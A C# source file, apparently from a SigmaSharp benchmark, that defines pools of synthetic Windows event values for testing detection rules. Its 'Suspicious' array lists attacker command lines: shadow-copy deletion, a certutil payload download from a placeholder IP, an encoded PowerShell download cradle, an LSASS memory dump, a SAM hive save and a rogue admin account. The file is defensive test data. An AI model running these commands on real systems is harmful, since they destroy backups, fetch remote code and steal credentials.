namespace SigmaSharp.Benchmarks.Events;

/// <summary>Pools of realistic Windows values the generator draws from.</summary>
internal static class SyntheticEventValues
{
    public static readonly string[] Computers =
        [.. Enumerable.Range(1, 40).Select(i => $"WS{i:D3}.corp.example.com"), "DC01.corp.example.com", "DC02.corp.example.com", "SQL01.corp.example.com"];

    public static readonly string[] Users =
        ["CORP\\alice", "CORP\\bob", "CORP\\carol", "CORP\\dave", "CORP\\svc_backup", "NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\NETWORK SERVICE", "NT AUTHORITY\\LOCAL SERVICE", "CORP\\erin.admin"];

    public static readonly (string Image, string CommandLine, string Description, string Product, string Company, string OriginalFileName)[] Processes =
    [
        (@"C:\Windows\System32\svchost.exe", @"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", "Host Process for Windows Services", "Microsoft® Windows® Operating System", "Microsoft Corporation", "svchost.exe"),
        (@"C:\Program Files\Google\Chrome\Application\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --display-capture-permissions-policy-allowed --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=12 --time-ticks-at-unix-epoch=-1700000000000000 --launch-time-ticks=5241234567 --field-trial-handle=1996,i,1234567890123456789,9876543210987654321,262144 /prefetch:1", "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe"),
        (@"C:\Windows\System32\conhost.exe", @"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", "Console Window Host", "Microsoft® Windows® Operating System", "Microsoft Corporation", "CONHOST.EXE"),
        (@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", @"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\ProgramData\Scripts\inventory.ps1 -Output \\fs01\share\inventory", "Windows PowerShell", "Microsoft® Windows® Operating System", "Microsoft Corporation", "PowerShell.EXE"),
        (@"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle", "Microsoft Outlook", "Microsoft Office", "Microsoft Corporation", "Outlook.exe"),
        (@"C:\Windows\System32\taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", "Host Process for Windows Tasks", "Microsoft® Windows® Operating System", "Microsoft Corporation", "taskhostw.exe"),
        (@"C:\Windows\System32\msiexec.exe", @"C:\Windows\system32\msiexec.exe /V", "Windows® installer", "Windows Installer - Unicode", "Microsoft Corporation", "msiexec.exe"),
        (@"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=2412 --field-trial-handle=2256,i,4571239876543210,1234987654321,262144 /prefetch:3", "Microsoft Edge", "Microsoft Edge", "Microsoft Corporation", "msedge.exe"),
        (@"C:\Windows\System32\cmd.exe", @"C:\Windows\system32\cmd.exe /c ""C:\Program Files\Backup\run_nightly.cmd"" --target \\nas01\backups --retain 14", "Windows Command Processor", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Cmd.Exe"),
        (@"C:\Windows\System32\RuntimeBroker.exe", @"C:\Windows\System32\RuntimeBroker.exe -Embedding", "Runtime Broker", "Microsoft® Windows® Operating System", "Microsoft Corporation", "RuntimeBroker.exe"),
    ];

    /// <summary>Command lines public SigmaHQ process-creation rules detect.</summary>
    public static readonly (string Image, string CommandLine, string OriginalFileName)[] Suspicious =
    [
        (@"C:\Windows\System32\whoami.exe", "whoami /priv", "whoami.exe"),
        (@"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "VSSADMIN.EXE"),
        (@"C:\Windows\System32\certutil.exe", "certutil.exe -urlcache -split -f http://198.51.100.23/payload.exe C:\\Users\\Public\\p.exe", "CertUtil.exe"),
        (@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "PowerShell.EXE"),
        (@"C:\Windows\System32\rundll32.exe", @"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\lsass.dmp full", "RUNDLL32.EXE"),
        (@"C:\Windows\System32\reg.exe", @"reg.exe save hklm\sam C:\Users\Public\sam.save", "reg.exe"),
        (@"C:\Windows\System32\wbem\WMIC.exe", "wmic.exe shadowcopy delete", "wmic.exe"),
        (@"C:\Windows\System32\net.exe", "net.exe localgroup administrators eviluser /add", "net.exe"),
    ];

    public static readonly string[] Dlls =
        [@"C:\Windows\System32\ntdll.dll", @"C:\Windows\System32\kernel32.dll", @"C:\Windows\System32\combase.dll", @"C:\Windows\System32\crypt32.dll", @"C:\Windows\System32\wininet.dll", @"C:\Windows\System32\amsi.dll", @"C:\Windows\System32\dbghelp.dll"];

    public static readonly string[] RegistryKeys =
    [
        @"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\OneDrive",
        @"HKU\S-1-5-21-1004336348-1177238915-682003330-1104\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx\MRUListEx",
        @"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-1004336348-1177238915-682003330-1104\\Device\HarddiskVolume3\Windows\System32\svchost.exe",
        @"HKLM\SOFTWARE\Microsoft\Windows Defender\Features\TamperProtection",
    ];

    public static readonly string[] FileTargets =
    [
        @"C:\Users\alice\AppData\Local\Temp\~DF3A1B2C4D5E6F70.TMP",
        @"C:\Users\bob\Downloads\Q3_financials_final_v2.xlsx",
        @"C:\Windows\Prefetch\CHROME.EXE-5C7B1D2E.pf",
        @"C:\ProgramData\Microsoft\Windows Defender\Scans\History\Service\DetectionHistory\02\7A1B2C3D-4E5F-6071-8293-A4B5C6D7E8F9",
    ];

    /// <summary>Rule names as the widely used sysmon-modular configuration writes them.</summary>
    public static readonly string[] RuleNames =
    [
        "-", "technique_id=T1036,technique_name=Masquerading", "technique_id=T1059.001,technique_name=PowerShell",
        "technique_id=T1547.001,technique_name=Registry Run Keys / Start Folder", "technique_id=T1204,technique_name=User Execution",
    ];

    public static readonly int[] Ports = [443, 80, 53, 445, 135, 389, 3389, 5985, 8080];
}
